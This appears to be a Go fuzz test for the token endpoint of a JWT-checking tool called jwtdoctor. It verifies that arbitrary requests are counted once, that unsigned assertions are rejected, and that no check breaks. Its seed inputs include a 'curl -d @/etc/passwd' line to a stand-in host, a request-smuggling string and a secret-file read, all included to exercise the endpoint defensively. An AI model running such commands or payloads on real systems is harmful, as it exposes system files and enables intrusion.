package serve

import (
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/assertionworks/jwtdoctor/internal/finding"
)

// Whatever is sent is answered, counted once, and breaks no check.
func FuzzToken(f *testing.F) {
	form := "grant_type=client_credentials&client_assertion_type=" + urn + "&client_assertion=e30.e30.AA"
	for _, seed := range [][3]string{
		{"POST", "application/x-www-form-urlencoded", form},
		{"POST", "application/x-www-form-urlencoded", form + "\r\n\r\n###\nPOST https://other.example/token HTTP/1.1\n\n" + form},
		{"POST", "", "HTTP/1.1 200 OK\r\n\r\n{\"access_token\":\"x\"}"},
		{"POST", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--"},
		{"POST", "application/json", `{"grant_type":{"a":[1]}}`},
		{"GET", "text/plain", ""},
		{"POST", "application/x-www-form-urlencoded", "\x1f\x8b\x00\xff%zz=%"},
		{"POST", "text/plain", "< ./secret.txt"},
		{"POST", "text/plain", "curl -d @/etc/passwd https://x.example"},
		{"POST", "application/x-www-form-urlencoded", "client_assertion={{jwt}}&@x=y"},
	} {
		f.Add(seed[0], seed[1], seed[2])
	}
	s := server(f, config(f))
	f.Fuzz(func(t *testing.T, method, kind, body string) {
		if method != "GET" && method != "PUT" {
			method = "POST"
		}
		r := httptest.NewRequest(method, "/token", strings.NewReader(body))
		r.Host = s.authority()
		r.Header.Set("Content-Type", strings.NewReplacer("\r", "", "\n", "").Replace(kind))
		before, _ := s.Tally()
		got := ask(t, s, r)
		if after, _ := s.Tally(); after != before+1 {
			t.Errorf("counted %d times", after-before)
		}
		if got.status < 400 {
			t.Errorf("accepted, though no assertion is signed: %d %s", got.status, got.text)
		}
		c, err := s.judge(r, []byte(body), &Event{Request: 1})
		if err != nil {
			if strings.Contains(err.Error(), "internal error in jwtdoctor") {
				t.Error(err)
			}
			return
		}
		for _, x := range c.Findings {
			if x.Outcome == finding.Broken {
				t.Errorf("%s broke: %s", x.Check, x.Reason)
			}
		}
	})
}
